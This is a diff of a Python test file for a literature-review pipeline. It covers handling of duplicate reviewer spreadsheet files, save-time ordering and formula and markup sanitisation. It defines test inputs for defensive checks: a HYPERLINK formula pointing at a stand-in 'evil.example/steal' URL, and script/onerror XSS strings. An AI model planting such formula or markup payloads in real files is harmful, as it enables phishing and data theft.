@@ -13,8 +13,10 @@ from __future__ import annotations
 
 import copy
 import csv
+import logging
 import shutil
-from collections.abc import Callable
+from collections.abc import Callable, Mapping
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -27,10 +29,11 @@ from livingreview.errors import InputFileError
 from livingreview.extraction.stage import run_extraction
 from livingreview.fulltext.stage import run_fulltext
 from livingreview.report.render import write_report
+from livingreview.reviewforms import Entry, check_repeated_rows, latest_rows, read_entries
 from livingreview.sheets import FORMULA_START
 from tests.appraisal.test_appraisal import ANSWERS
 from tests.conftest import REPO_ROOT
-from tests.form_helpers import fill_form, form_ids, stage_config
+from tests.form_helpers import fill_form, form_ids, set_saved_at, stage_config
 
 FORMULA = '=HYPERLINK("http://evil.example/steal","click me")'
 MARKUP = '<script>alert("x")</script><img src=x onerror=alert(1)>'
@@ -135,13 +138,27 @@ def _stores(config: dict[str, Any]) -> dict[str, bytes]:
     return {name: (out / name).read_bytes() for name in STORES if (out / name).exists()}
 
 
-def _return(staged: dict[str, Any], stage: str, name: str) -> tuple[Path, Runner]:
-    """A blank form of ``stage`` with one row typed, returned as ``name``: (path, runner)."""
+def _return(
+    staged: dict[str, Any],
+    stage: str,
+    name: str,
+    typed: Mapping[str, str] | None = None,
+    *,
+    shuffle: bool = False,
+) -> tuple[Path, Runner]:
+    """A blank form of ``stage`` with its first row typed (``typed``, else :data:`TYPED`),
+    returned as ``name``: (path, runner)."""
     blank, title, idc, folder, runner = STAGES[stage]
     source = staged["blank"] / blank
-    first = form_ids(source, title, idc)[0]
+    values = {_first_id(staged, stage): typed or TYPED[stage]}
     target = _human(staged["config"], folder) / name
-    return fill_form(source, title, idc, {first: TYPED[stage]}, target, shuffle=False), runner
+    return fill_form(source, title, idc, values, target, shuffle=shuffle), runner
+
+
+def _first_id(staged: dict[str, Any], stage: str) -> str:
+    """The id of the first row of the blank form of ``stage``."""
+    blank, title, idc, _, _ = STAGES[stage]
+    return form_ids(staged["blank"] / blank, title, idc)[0]
 
 
 def _set_meta(path: Path, key: str, value: str) -> None:
@@ -203,6 +220,79 @@ def test_a_duplicated_row_is_rejected_naming_both_rows(staged: dict[str, Any], s
     _rejected(staged, runner, path, "twice", f"rows 2 and {last}")
 
 
+# -- one reviewer's two files of a round that differ -----------------------------------------
+
+#: the reviewer forms (not the conflicts sheet): where each stores what was typed, and a row
+#: filled in whole
+FORM_STORES = {
+    "full_text": ("fulltext/assessments.csv", TYPED["full_text"]),
+    "extraction": ("extraction/entries.csv", TYPED["extraction"]),
+    "risk_of_bias": ("rob/entries.csv", ANSWERS),
+}
+
+
+def _twice(staged: dict[str, Any], stage: str, notes: tuple[str, str]) -> tuple[Path, Path]:
+    """r1's first row returned in ``a.xlsx`` and ``b.xlsx``, with these notes."""
+    return tuple(  # type: ignore[return-value]
+        _return(staged, stage, f"{name}.xlsx", {**FORM_STORES[stage][1], "notes": note})[0]
+        for name, note in zip("ab", notes, strict=True)
+    )
+
+
+@pytest.mark.parametrize("stage", list(FORM_STORES))
+def test_two_files_that_differ_without_an_order_in_save_times_are_rejected(
+    staged: dict[str, Any], stage: str
+) -> None:
+    """Two files of one reviewer and round with different values for an item were settled
+    silently by file name; when their save times cannot order them nothing is stored and the
+    error names both files and rows, the item, the field and both values."""
+    for path in _twice(staged, stage, ("checked", "looked again")):
+        set_saved_at(path, "2099-01-02T03:04:05Z")
+    before = _stores(staged["config"])
+    with pytest.raises(InputFileError) as error:
+        STAGES[stage][4](staged["config"])
+    message, folder = str(error.value), STAGES[stage][3]
+    assert message.startswith(f"{folder}/b.xlsx, row 2, field 'notes': r1's notes (round 1) ")
+    item = _first_id(staged, stage)
+    assert f"on study {item} is 'looked again' here and 'checked' in " in message
+    assert f"{folder}/a.xlsx, row 2" in message and "same save time" in message
+    assert "remove one of the two files" in message
+    assert _stores(staged["config"]) == before
+
+
+@pytest.mark.parametrize("stage", list(FORM_STORES))
+def test_a_file_saved_later_counts_and_the_value_it_overrides_is_logged(
+    staged: dict[str, Any], stage: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    earlier, later = _twice(staged, stage, ("looked again", "checked"))
+    set_saved_at(earlier, "2099-01-02T00:00:00Z")  # a.xlsx, saved first
+    set_saved_at(later, "2099-01-01T00:00:00Z")
+    with caplog.at_level(logging.WARNING):
+        STAGES[stage][4](staged["config"])
+    folder, item = STAGES[stage][3], _first_id(staged, stage)
+    named = [r.getMessage() for r in caplog.records if f"{folder}/b.xlsx, row 2:" in r.getMessage()]
+    assert named == [
+        f"{folder}/b.xlsx, row 2: r1's notes (round 1) on study {item}, 'checked', is overridden "
+        f"by 'looked again' in {folder}/a.xlsx, row 2, saved later (2099-01-01T00:00:00Z < "
+        "2099-01-02T00:00:00Z)"
+    ]
+    rows = latest_rows(read_entries(_outputs(staged["config"]) / FORM_STORES[stage][0]))
+    assert rows[("r1", item)]["notes"] == "looked again"
+
+
+@pytest.mark.parametrize("stage", list(FORM_STORES))
+def test_two_files_that_agree_are_read_silently_whatever_their_save_times(
+    staged: dict[str, Any], stage: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    typed = FORM_STORES[stage][1]
+    for name, shuffle in (("a.xlsx", False), ("b.xlsx", True)):  # not byte-identical copies
+        path = _return(staged, stage, name, typed, shuffle=shuffle)[0]
+        set_saved_at(path, "2099-01-02T03:04:05Z")
+    with caplog.at_level(logging.WARNING):
+        STAGES[stage][4](staged["config"])  # no error
+    assert not [r for r in caplog.records if "/a.xlsx" in r.getMessage()]
+
+
 # -- formula-like and markup text ------------------------------------------------------------
 
 
@@ -249,8 +339,8 @@ def test_formula_text_typed_by_reviewers_is_never_a_formula_in_any_exported_shee
 def _demo_with_extraction(
     demo_outputs: Path, tmp_path: Path, values: dict[str, str]
 ) -> tuple[dict[str, Any], str]:
-    """A copy of the demo review in which both reviewers code one pending study with
-    ``values``; returns the config and the study id."""
+    """A copy of the demo review in which both reviewers recode one study with ``values``;
+    returns the config and the study id."""
     config = load_config([REPO_ROOT / "config/config.yaml", REPO_ROOT / "demo/config.yaml"])
     config["paths"] = {"human_input": str(tmp_path / "human"), "outputs": str(tmp_path / "outputs")}
     shutil.copytree(demo_outputs, tmp_path / "outputs")
@@ -259,15 +349,12 @@ def _demo_with_extraction(
     study = form_ids(
         returned / "extraction_round1_r1_demo_illustrative.xlsx", "Extraction", "study_id"
     )[0]
-    for reviewer in ("r1", "r2"):  # both revise their returned form: a later copy
-        fill_form(
-            returned / f"extraction_round1_{reviewer}_demo_illustrative.xlsx",
-            "Extraction",
-            "study_id",
-            {study: values},
-            returned / f"revised_{reviewer}.xlsx",
-            shuffle=False,
-        )
+    for reviewer in ("r1", "r2"):
+        # both correct their returned form in place (a revised copy beside it would be
+        # rejected: the demo's forms record no save time, so which came last is unknown)
+        form = returned / f"extraction_round1_{reviewer}_demo_illustrative.xlsx"
+        fill_form(form, "Extraction", "study_id", {study: values}, form, shuffle=False)
+    (tmp_path / "outputs/extraction/entries.csv").unlink()  # the store of the first version
     run_extraction(config)
     return config, study
 
@@ -409,4 +496,27 @@ def test_a_shuffled_form_holds_exactly_the_shuffled_rows(tmp_path: Path) -> None
         ("check again", "c", None),
         (None, "b", None),
         (None, "a", "only a has a note"),
+    ]
+
+
+def test_a_value_left_blank_in_a_csv_of_the_same_round_is_a_disagreement() -> None:
+    """A row returned as .xlsx with a note and as CSV without it: which row counts (and so
+    whether the note is kept) cannot be told, so the two files are rejected, naming the blank."""
+    typed = [
+        Entry("S1", "r1", 1, "decision", "include", "a.xlsx", 3, "2099-01-01T00:00:00Z"),
+        Entry("S1", "r1", 1, "notes", "see table 2", "a.xlsx", 3, "2099-01-01T00:00:00Z"),
+        Entry("S1", "r1", 1, "decision", "include", "b.csv", 5, ""),
+    ]
+    with pytest.raises(InputFileError) as error:
+        check_repeated_rows(typed)
+    assert str(error.value) == (
+        "a.xlsx, row 3, field 'notes': r1's notes (round 1) on study S1 is 'see table 2' here and "
+        "blank in b.csv, row 5, and which of the two files was saved last cannot be told (b.csv "
+        "is a CSV file, which does not record when it was saved); expected one notes per study: "
+        "remove one of the two files, or correct one so that both hold the same"
+    )
+    later = replace(typed[2], file="b.xlsx", recorded_at="2099-02-01T00:00:00Z")
+    assert check_repeated_rows([*typed[:2], later]) == [
+        "a.xlsx, row 3: r1's notes (round 1) on study S1, 'see table 2', is overridden by blank "
+        "in b.xlsx, row 5, saved later (2099-01-01T00:00:00Z < 2099-02-01T00:00:00Z)"
     ]
